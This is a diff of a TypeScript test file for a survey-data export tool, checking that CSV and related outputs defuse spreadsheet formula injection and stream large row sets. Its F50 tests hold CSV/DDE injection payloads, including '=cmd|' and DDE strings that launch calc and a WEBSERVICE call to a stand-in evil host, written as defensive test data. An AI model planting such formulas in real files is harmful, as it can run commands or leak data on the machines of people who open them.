@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
 import { describe, it } from 'node:test';
 import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
@@ -8,14 +9,20 @@ import { parentCarerEhcp, practitionerEhcp, youngPersonEhcp } from '../../conten
 import type { SubmittedAnswer } from '../../model/answer.ts';
 import { askedItemsOf } from '../../model/items.ts';
 import type { AskedItem } from '../../model/items.ts';
+import { parse as parseValue } from '../../model/parse.ts';
+import { Report } from '../../model/report.ts';
+import { columnNames } from './column-names.ts';
 import { columnsOf } from './columns-of.ts';
 import type { SourceColumn } from './columns-of.ts';
 import { csvLine } from './csv-line.ts';
 import type { CsvDialect } from './csv-line.ts';
-import type { Row } from './dataset.ts';
+import type { Column, Row } from './dataset.ts';
 import { rowOf } from './row-of.ts';
+import { writeTripleSData } from './triple-s.ts';
 import { writeCodebook } from './write-codebook.ts';
 import { writeCsv } from './write-csv.ts';
+import { writeFigures, writeFiguresMetadata } from './write-figures.ts';
+import { writeJson } from './write-json.ts';
 
 const surveys = [
   surveyWith(youngPersonEhcp, 'transport', 'preparing-for-adulthood'),
@@ -26,6 +33,12 @@ const surveys = [
 /** What another program reads: rows of texts. */
 function read(csv: string): string[][] {
   return parse(csv, { bom: true, relaxColumnCount: false });
+}
+
+function parseReport(text: string): Report {
+  const report = parseValue(Report, JSON.parse(text));
+  assert.ok(report.kind === 'ok', JSON.stringify(report));
+  return report.value;
 }
 
 /** Takes off the one apostrophe that defuses a formula. */
@@ -96,14 +109,42 @@ describe('a file of single answers as CSV', () => {
         'a"b',
         'a\r\nb',
       ],
-      ...['\u202E=1+1', 'Shorter forms, please', ''],
+      ...['\u202E=1+1', '\u200B=1+1', '\u0001=1+1', '\u00AD\u2066@SUM(1)', '﹦1+1', '﹢1', '﹣1', '﹫SUM'],
+      ...['=cmd|\u0027/C calc\u0027!A0', '=DDE("cmd","/C calc","1")', '=WEBSERVICE("http://evil.example")', '+44 20 7946 0000', '-'],
+      ...['مرحبا', '\u202Eabc', '🙂', ']]>', 'Shorter forms, please', ''],
     ];
     for (const words of payloads) {
       const [[cell = '?'] = []] = read(`${csvLine([words, 1], 'spreadsheet')}`);
-      assert.doesNotMatch(cell, /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/, JSON.stringify(words));
+      assert.doesNotMatch(cell.normalize('NFKC'), /^[\s\p{C}]*[=+\-@]|^[\t\r\n]/u, JSON.stringify(words));
       assert.equal(asWritten(cell, 'spreadsheet'), words);
       assert.equal(read(csvLine([words, 1], 'data'))[0]?.[0], words);
     }
+  });
+
+  it('F50: no cell of any CSV for spreadsheets can be run, whoever wrote the words in it: people, councils, or authors of questions', async () => {
+    const evil = '=cmd|\u0027/C calc\u0027!A0';
+    const column: Column = {
+      ...{ name: 'q', label: evil, question: evil, kind: 'codes', measure: 'nominal', maxLength: 0 },
+      codes: [{ code: 1, id: evil, label: `\t${evil}` }],
+      missing: [{ code: -3, id: evil, label: ` ${evil}` }],
+    };
+    const text = readFileSync(new URL('../../../../../examples/reports/autumn-summary-302-201617.json', import.meta.url), 'utf8');
+    // Every word of the report that is shown, and none that is a code.
+    const harmful = parseReport(text.replaceAll(/("(?:en|name)": ?")(?=[A-Z])/g, `$1${evil} `));
+    const files = [
+      writeCodebook({ columns: [column] }),
+      writeCsv({ columns: [column], rows: [[evil], [`\r${evil}`]] }),
+      writeFigures(harmful),
+      writeFiguresMetadata(harmful),
+    ];
+    let found = 0;
+    for (const file of files)
+      for (const cell of read(await textOf(file)).flat()) {
+        if (/^-?\d/.test(cell)) continue;
+        assert.doesNotMatch(cell, /^[\s\p{C}]*[=+\-@]/u);
+        if (cell.includes(evil)) found++;
+      }
+    assert.ok(found > 500, `${found} cells with such words`);
   });
 
   it('F50: no words at all can be run, and none are changed beyond the apostrophe', () => {
@@ -123,21 +164,38 @@ describe('a file of single answers as CSV', () => {
     assert.deepEqual([await start('spreadsheet'), await start('data')], [0xfeff, 13]);
   });
 
-  it('comes in pieces, of which none is held longer than it takes to hand it on', async () => {
-    let made = 0;
-    const rows = function* (): Generator<Row> {
-      for (; made < 100_000; made++) yield [made, 'Words of somebody'];
-    };
-    const pieces = writeCsv({ columns: columnsOf(surveys, 'full').slice(0, 2), rows: rows() });
-    await pieces.next();
-    await pieces.next();
-    assert.ok(made < 10_000, `${made} rows were made before the first piece was handed on`);
-    let lines = 0;
-    for await (const piece of pieces) {
-      assert.ok(piece.length < 70_000);
-      lines += piece.split('\n').length - 1;
+  it('comes in pieces of 100,000 rows, of which none is held longer than it takes to hand it on; so does every format that has rows', async () => {
+    const columns = columnsOf(surveys, 'full').slice(0, 2);
+    const about = {
+      title: 'Many',
+      survey: 'example/many@1.0.0',
+      authority: '302',
+      profile: 'full',
+      madeOn: '2026-11-23',
+      n: 100_000,
+    } as const;
+    const formats = [
+      (rows: Iterable<Row>) => writeCsv({ columns, rows }),
+      (rows: Iterable<Row>) => writeTripleSData({ columns, rows }),
+      (rows: Iterable<Row>) => writeJson({ about, columns, rows }),
+    ];
+    for (const write of formats) {
+      let made = 0;
+      const rows = function* (): Generator<Row> {
+        for (; made < 100_000; made++) yield [made, 'Words of somebody'];
+      };
+      const pieces = write(rows());
+      await pieces.next();
+      await pieces.next();
+      assert.ok(made < 10_000, `${made} rows were made before the first piece was handed on`);
+      let lines = 0;
+      for await (const piece of pieces) {
+        assert.ok(piece.length < 70_000);
+        lines += piece.split('\n').length - 1;
+      }
+      assert.ok(lines > 90_000);
+      assert.equal(made, 100_000);
     }
-    assert.ok(lines > 90_000);
   });
 });
 
@@ -161,5 +219,18 @@ describe('the names of columns', () => {
   it('are each there once, whatever is upper or lower case, and every program takes them', () => {
     assert.equal(new Set(names.map((name) => name.toLowerCase())).size, names.length);
     for (const name of names) assert.match(name, /^[A-Za-z]\w{0,63}$/);
+  });
+
+  it('stay apart where the ids are too long, or differ in what a name cannot have', () => {
+    const nameOf = columnNames();
+    const long = 'x'.repeat(70);
+    const ids = [`${long}a`, `${long}b`, `${'x'.repeat(62)}_2`, long, 'a-b', 'a_b', 'A.B', 'Ünïcode', '2', '', '--', 'with', 'WITH', 'ALL'];
+    const given = [...ids, ...Array.from({ length: 12 }, () => long)].map((id) => nameOf(id));
+    assert.equal(new Set(given.map((name) => name.toLowerCase())).size, given.length);
+    for (const name of given) {
+      assert.match(name, /^[A-Za-z]\w{0,63}$/);
+      assert.doesNotMatch(name, /^(all|and|by|eq|ge|gt|le|lt|ne|not|or|to|with)$/i);
+    }
+    assert.deepEqual([given[0]?.length, given[1]?.length, given.at(-1)?.length], [64, 64, 64]);
   });
 });
